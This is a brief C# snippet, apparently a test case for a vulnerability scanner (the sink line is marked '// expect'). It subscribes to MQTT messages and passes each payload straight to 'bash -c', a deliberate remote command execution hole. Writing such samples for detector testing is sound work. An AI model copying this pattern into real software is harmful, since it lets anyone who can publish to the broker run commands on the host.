using MQTTnet;
using System.Diagnostics;
using System.Text;
public class D {
  public void Run(IMqttClient client) {
    client.ApplicationMessageReceivedAsync += e => {
      var text = Encoding.UTF8.GetString(e.ApplicationMessage.Payload);
      Process.Start("bash", "-c " + text); // expect
      return Task.CompletedTask;
    };
  }
}
